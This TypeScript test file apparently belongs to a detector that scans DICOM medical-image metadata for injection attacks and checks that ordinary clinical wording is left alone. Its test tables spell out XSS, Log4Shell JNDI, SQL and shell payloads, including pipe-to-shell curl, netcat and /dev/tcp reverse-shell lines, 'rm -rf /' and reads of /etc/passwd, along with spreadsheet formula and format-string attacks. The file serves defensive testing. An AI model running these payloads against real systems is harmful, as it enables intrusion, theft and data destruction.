import assert from 'node:assert/strict';
import { test } from 'node:test';
import { concatBytes } from '@leadglass/kit';
import type { Verdict } from '@leadglass/model';
import { element, sequence } from '../test-data.ts';
import { bytesOf, expectCodes, look } from './content.testkit.ts';
import { injectionsIn, lineInjectionsIn } from './injections.ts';

const STUDY_DESCRIPTION = 0x00081030;
const PATIENT_NAME = 0x00100010;
const PATIENT_ID = 0x00100020;
const COMMENTS = 0x00204000;
const CHARSET = 0x00080005;

function value(tag: number, vr: string, text: string): Uint8Array {
  return element(tag, vr, bytesOf(text.length % 2 === 0 ? text : `${text} `));
}

const EVERYWHERE: readonly (readonly [code: string, verdict: Verdict, texts: readonly string[]])[] = [
  [
    'injection.markup',
    'suspicious',
    [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//x>',
      '< script >x',
      '</script ><b>',
      '<img src=x onerror=alert(1)>',
      '<IMG/SRC=x/OnError =x>',
      '<svg onload=x>',
      '<svg/onload=x>',
      '<body onpageshow=x>',
      '<details open ontoggle=x>',
      '<a href="javascript:x">',
      'javascript:alert(1)',
      '<iframe src=//x>',
      '<object data=x.swf>',
      '<meta http-equiv=refresh content=0>',
      '%3Cscript%3Ealert(1)',
      '&lt;script&gt;',
      '\\u003cscript>',
      '<a href=data:text/html,x>',
      '"><svg><animate onbegin=x>',
    ],
  ],
  [
    'injection.lookup',
    'malicious',
    [
      '${jndi:ldap://x/a}',
      '${${lower:j}ndi:ldap://x}',
      '${${::-j}${::-n}di:rmi://x}',
      '${env:SECRET}',
      '${jndi${x:-:}ldap}',
    ],
  ],
  [
    'injection.sql',
    'suspicious',
    [
      "x' OR '1'='1' --",
      "x' or 1=1 --",
      "x') or ('a'='a",
      "1'; DROP TABLE patients;--",
      '1; drop table if exists patients;',
      "' UNION SELECT null,null--",
      "x' union all select name, id from y",
      "admin'--",
      "x'; exec xp_cmdshell 'dir'",
      "'; WAITFOR DELAY '0:0:5'--",
      "x' and sleep(5) and 'a'='a",
      '" or "1"="1',
      "x'; shutdown --",
      '1; update users set admin=1',
    ],
  ],
  [
    'injection.shell',
    'suspicious',
    [
      '$(id)',
      'x$(curl x.example/a|sh)',
      '`id`',
      '`wget http://x`',
      'x; rm -rf /',
      'x|nc -e /bin/sh x 1',
      'x && curl http://x',
      '; cat /etc/passwd',
      '| /bin/sh',
      'x;bash -c x',
      '& powershell -enc x',
      '& cmd.exe /c dir',
      'x;sleep 10;',
      'a${IFS}b',
      'x>/dev/tcp/1.2.3.4/5',
      '() { :; }; x',
      '$(/usr/bin/id)',
    ],
  ],
  ['injection.terminal', 'suspicious', ['\x1b[2J\x1b[31mX', 'x\x1b]0;title\x07', '\x1bPq', 'x\x1bc']],
];

const LINE: readonly (readonly [code: string, texts: readonly string[]])[] = [
  [
    'injection.formula',
    [
      '=HYPERLINK("http://127.0.0.1:9")',
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '+HYPERLINK("x")',
      '=1+1+WEBSERVICE("x")',
      ' =IMPORTXML(CONCAT("x"),"y")',
      '"=SUM(A1:A9)"',
      'a,=DDE("cmd";"/C calc";"x")',
      "=mshta|'x'!A",
      'x\\=HYPERLINK("y")',
    ],
  ],
  [
    'injection.format',
    ['%n%n%n%s%s%s%x', '%s%s%s%s', '%x.%x.%x', '%1$n', '%08x%08x%08x', 'AAAA%p-%p-%p', '%s%n', '%hn%s'],
  ],
];

/** What people write. Every one of these was thought of as an accident waiting for a pattern that is too wide. */
const INNOCENT: readonly string[] = [
  'ANKLE LT <10 y/o> & FOOT',
  'Smith & Sons <Radiology>',
  '<10mm',
  '>5 <10 on contrast = yes',
  '<base of skull>',
  '<object>',
  'marked lesion<MPR Collection>',
  'T2*',
  'T2W/TSE$1',
  'A&P',
  '50%',
  '50%stenosis, 30%narrowing, 20%plaque',
  '100 % p, 20 % s, 5 % n',
  '%20%20%20',
  'C:\\images',
  'C:\\images\\%s',
  '+C',
  '-C',
  'C+/C-',
  '+38',
  '-100\\-100\\0',
  '=',
  '= normal',
  '- Open (1.5T)',
  '-CONTRAST(IV)',
  '+CONTRAST(IV)',
  '- Image (2)',
  '@home',
  'a@b.example',
  'cornerstoneTools@^4.0.0:Length',
  "O'OR^JOHN",
  "D'ANDREA^OR",
  "O'Brien and 'Smith' = partners",
  "patient's 'pain' and not fever",
  'couch; drop table 5 cm; alter table height',
  'catheter; insert into left femoral vein',
  'delete from worklist',
  '(delayed) union select views',
  'nonunion; select views',
  'SELECT slices 10-20',
  'PET & CAT /CHEST',
  '; echo; TEE; cat scan',
  '`sleep study`',
  'no meds; sleep 8',
  'Name & ID',
  'error; reboot',
  '$(SeriesDescription)',
  '${SeriesDescription}',
  '$Id: datadefs,v 5.27 2004/10/18 06:50:',
  'cost $5; price = $6',
  'JavaScript: enabled',
  'javascript',
  'description: x',
  'Pre-script: x',
  '5\' 11"',
  "5'-6'",
  '#1; #2 -- #3',
  'TotalDLP=1748.68',
  'SN=L03-02246;ctx=contact;mc=3.5',
  'AECRegion="eUndefRegion"',
  'HEAD^NECK|THORAX',
  '{SUVbw}g/ml',
  'x <- y; z -> w',
  'a || b && c',
  'cmd | view',
  'V5.2B%LR',
  'image1=left, image2=right',
  '&amp; &lt;10',
  'L\'\xe9paule droite; c\'est "normal"',
];

const PLACES: readonly (readonly [tag: number, vr: string])[] = [
  [STUDY_DESCRIPTION, 'LO'],
  [PATIENT_NAME, 'PN'],
  [PATIENT_ID, 'LO'],
  [0x00080050, 'SH'],
  [COMMENTS, 'LT'],
  [0x00400310, 'ST'],
  [0x0040a160, 'UT'],
  [0x00080119, 'UC'],
];

test('[INSPECT-160] [INSPECT-161] markup, lookups, commands and terminal sequences are found in every text', () => {
  for (const [code, verdict, texts] of EVERYWHERE) {
    for (const text of texts) {
      for (const [tag, vr] of PLACES) {
        const seen = look(value(tag, vr, text));
        assert.ok(seen.codes.includes(code), `${code} in ${vr} ${JSON.stringify(text)}: ${seen.codes}`);
        assert.equal(seen.verdict, verdict, text);
      }
      const nested = look(sequence(0x00081110, value(STUDY_DESCRIPTION, 'LO', `before ${text}`)));
      assert.ok(nested.codes.includes(code) || text.startsWith("admin'") || text.startsWith('javascript'), text);
    }
  }
});
test('[INSPECT-162] formulas and format strings are found in values of one line', () => {
  for (const [code, texts] of LINE) {
    for (const text of texts) {
      for (const [tag, vr] of [
        [STUDY_DESCRIPTION, 'LO'],
        [PATIENT_NAME, 'PN'],
        [0x00080050, 'SH'],
      ] as const) {
        const seen = look(value(tag, vr, text));
        assert.ok(seen.codes.includes(code), `${code} ${JSON.stringify(text)}: ${seen.codes}`);
        assert.equal(seen.verdict, 'suspicious', text);
      }
    }
  }
});
test('[INSPECT-160] what people write is innocent everywhere', () => {
  for (const text of INNOCENT) for (const [tag, vr] of PLACES) expectCodes(value(tag, vr, text), 'clean', []);
});
test('[INSPECT-162] names with empty alphabetic groups are innocent', () => {
  for (const name of ['=\xd4\xcf^\xc0=x', '^^^=^^^=^^^', 'A^B==C', '-^-', '=HYPER^LINK'])
    expectCodes(value(PATIENT_NAME, 'PN', name), 'clean', []);
});

// Control characters

test('[INSPECT-163] a NUL inside a name or identifier is malformed, in a description a quirk; padding is none', () => {
  expectCodes(value(PATIENT_NAME, 'PN', 'DOE\0^JANE'), 'malformed', ['injection.nul-inside']);
  expectCodes(value(PATIENT_ID, 'LO', '1\0x'), 'malformed', ['injection.nul-inside']);
  expectCodes(value(STUDY_DESCRIPTION, 'LO', 'head\0junk'), 'clean', ['injection.nul-behind']);
  for (const text of ['DOE^JANE\0', 'DOE\0\\JANE\0', 'DOE  \0\0', 'DOE \0 '])
    expectCodes(value(0x00101001, 'PN', text), 'clean', []);
});
test('[INSPECT-163] line breaks and other controls: suspicious in identifiers, quirks elsewhere, nothing in texts of lines', () => {
  expectCodes(value(PATIENT_ID, 'LO', 'A\nB'), 'suspicious', ['injection.line-break']);
  expectCodes(value(PATIENT_ID, 'LO', '12345\r\n'), 'clean', ['injection.stray-control']);
  expectCodes(value(PATIENT_NAME, 'PN', 'DOE\x08\x08\x08X'), 'suspicious', ['injection.control']);
  expectCodes(value(STUDY_DESCRIPTION, 'LO', 'head\r\nneck'), 'clean', ['injection.stray-control']);
  expectCodes(value(STUDY_DESCRIPTION, 'LO', 'head\tneck\x7f'), 'clean', ['injection.stray-control']);
  for (const vr of ['LT', 'ST', 'UT']) expectCodes(value(COMMENTS, vr, 'a\r\nFollow-up: none\r\n\tb\f'), 'clean', []);
});
test('[INSPECT-163] a header behind a line break is suspicious', () => {
  for (const text of [
    'A\r\nX-Evil: 1',
    'A\nSet-Cookie: a=b',
    'A\rOBX|1|TX',
    'A\r\nHTTP/1.1 200',
    'A\nContent-Length: 0',
  ])
    for (const tag of [STUDY_DESCRIPTION, 0x00080050])
      expectCodes(value(tag, 'LO', text), 'suspicious', ['injection.header']);
  expectCodes(value(STUDY_DESCRIPTION, 'LO', 'CT head\nFollow-up: none'), 'clean', ['injection.stray-control']);
});
test('[INSPECT-163] an override of direction is suspicious in UTF-8 alone; right-to-left marks are not', () => {
  const utf8 = (text: string): Uint8Array => value(PATIENT_NAME, 'PN', Buffer.from(text, 'utf8').toString('latin1'));
  const set = value(CHARSET, 'CS', 'ISO_IR 192');
  expectCodes(concatBytes(set, utf8('DOE\u202eEOD')), 'suspicious', ['injection.bidi']);
  expectCodes(concatBytes(set, utf8('\u200f\u05d3\u05d5\u05d3\u200e \u202b\u05d0\u202c')), 'clean', []);
  expectCodes(utf8('DOE\u202eEOD'), 'clean', []);
});

test('[INSPECT-163] signs of paths and pages in overlong UTF-8 are suspicious; other overlong forms, and Latin-1, are not', () => {
  const set = value(CHARSET, 'CS', 'ISO_IR 192');
  for (const text of ['..\xc0\xaf..', '\xc0\xbcscript\xc0\xbe', '..\xe0\x80\xafx', 'a\xc1\x9cb', '\xf0\x80\x80\xafx'])
    expectCodes(concatBytes(set, value(STUDY_DESCRIPTION, 'LO', text)), 'suspicious', ['injection.overlong']);
  expectCodes(concatBytes(set, value(STUDY_DESCRIPTION, 'LO', 'RDV \xc0\xa0: 8 h')), 'clean', []);
  expectCodes(value(STUDY_DESCRIPTION, 'LO', 'Angle \xc0\xaf'), 'clean', []);
});
test('[INSPECT-160] a command in backquotes is one where people are named; a quotation and a transliterated name are none', () => {
  expectCodes(value(PATIENT_NAME, 'PN', '`echo leadglass`^X'), 'suspicious', ['injection.shell']);
  expectCodes(value(PATIENT_NAME, 'PN', '`Abd al-`Aziz^`Umar'), 'clean', []);
  expectCodes(value(STUDY_DESCRIPTION, 'LO', 'dit `sleep study` court'), 'clean', []);
});

// Character sets

test('[INSPECT-164] second bytes of multi-byte characters are not punctuation', () => {
  const cases: readonly (readonly [set: string, text: string])[] = [
    ['GB18030', 'Wang^XiaoDong=\x84\\\x86^^\x88|\xd0\xa1'],
    ['GB18030', '\x81`\x81`\x84|\x84{ \x810\x8160'],
    ['ISO_IR 13', '\x83\\\x83`id\x83`=\x95|'],
    ['ISO 2022 IR 13\\ISO 2022 IR 87', '\xd4\xcf\xc0\xde=\x1b$B;3ED\x1b(J^\x1b$B`id`\x1b(J'],
    ['\\ISO 2022 IR 87', '\x1b$B$(id)$($(\x1b(B'],
    ['\\ISO 2022 IR 159', '\x1b$(D`id`$(id)\x1b(B'],
    ['\\ISO 2022 IR 149', '\x1b$)C\xfb\xf3^\x1b$)C\xd1\xce'],
    ['\\ISO 2022 IR 58', '\x1b$)A\xd5\xc5^\x1b$)A\xd0\xa1'],
    ['ISO_IR 192', '\xe7\x8e\x8b^\xe5\xb0\x8f'],
  ];
  for (const [set, text] of cases) {
    const object = concatBytes(
      value(CHARSET, 'CS', set),
      value(STUDY_DESCRIPTION, 'LO', text),
      value(PATIENT_NAME, 'PN', text),
    );
    expectCodes(object, 'clean', []);
  }
});
test('[INSPECT-164] no character set hides an injection behind a lead byte or an escape', () => {
  const hidden: readonly (readonly [set: string, text: string])[] = [
    ['GB18030', '\x84<script>x'],
    ['ISO_IR 13', '\x83<script>x'],
    ['\\ISO 2022 IR 87', '\x1b$B<script>x'],
    ['\\ISO 2022 IR 87', "\x1b$B$($\x1b(Bx' OR '1'='1"],
    ['\\ISO 2022 IR 87', '\x1b$B$(\n$(id)'],
    ['\\ISO 2022 IR 149', '\x1b$)C<script>'],
  ];
  for (const [set, text] of hidden) {
    const seen = look(concatBytes(value(CHARSET, 'CS', set), value(COMMENTS, 'LT', text)));
    assert.equal(seen.verdict, 'suspicious', text);
  }
});
test('[INSPECT-164] an item has its own character set, and its parent’s again behind it', () => {
  const item = concatBytes(value(CHARSET, 'CS', 'GB18030'), value(0x00080104, 'LO', '\x84`id\x84`'));
  expectCodes(concatBytes(sequence(0x00081032, item), value(COMMENTS, 'LT', '\x84`id`')), 'suspicious', [
    'injection.shell',
  ]);
  expectCodes(
    concatBytes(value(CHARSET, 'CS', 'GB18030'), sequence(0x00081032, value(0x00080104, 'LO', '\x84`id\x84`'))),
    'clean',
    [],
  );
});

// Long and private texts

test('[INSPECT-165] a long text is looked through to its end, at any place of it', () => {
  const filler = 'Compte rendu : pas d\u2019anomalie visible (<10 mm) ; 50 % de contraste. '.replace('\u2019', "'");
  const text = filler.repeat(200);
  expectCodes(value(0x0040a160, 'UT', text), 'clean', []);
  for (const at of [1020, 4090, 4096 - 640, 7552, text.length])
    for (const [code, , texts] of EVERYWHERE.slice(0, 2)) {
      const attack = texts[0] ?? '';
      expectCodes(
        value(0x0040a160, 'UT', text.slice(0, at) + attack + text.slice(at)),
        code.endsWith('lookup') ? 'malicious' : 'suspicious',
        [code],
      );
    }
});
test('[INSPECT-165] manufacturers’ own texts keep their formulas, templates and markup; what runs in a viewer is found', () => {
  const own = (text: string): Uint8Array =>
    concatBytes(value(0x00090010, 'LO', 'MAKER'), value(0x00091001, 'LO', text));
  for (const text of [
    '=SUM(A1)',
    '%s%s%s',
    '<object id="x" onset="3">',
    "x' or 1=1",
    'a\0b\x01',
    '${env:X}',
    '$(id)',
    '<svg width="3">',
  ])
    expectCodes(own(text), 'clean', []);
  expectCodes(own('<script>x</script>'), 'suspicious', ['injection.markup']);
  expectCodes(own('<img src=x onerror=x>'), 'suspicious', ['injection.markup']);
  expectCodes(own('${jndi:ldap://x}'), 'malicious', ['injection.lookup']);
});

test('[INSPECT-169] no text makes a pattern run long', () => {
  const parts = [
    '<',
    '<a ',
    '<a on',
    "'",
    "' or ",
    '"',
    '$(',
    '${',
    '`',
    ';',
    '; rm ',
    '%',
    '%s',
    '=',
    '=+',
    '\n',
    '\r\nX-',
    '&lt;',
    '( ',
    ' ',
    '\0',
    "x' OR '",
    '%1',
    '<object ',
    '$ {',
    '\x1b',
  ];
  for (const part of parts) {
    const text = part.repeat(Math.ceil(4096 / part.length));
    const begun = process.cpuUsage();
    for (let times = 0; times < 10; times += 1) {
      injectionsIn(text, text, true);
      lineInjectionsIn(text);
    }
    assert.ok(process.cpuUsage(begun).user / 1000 < 400, JSON.stringify(part));
  }
});
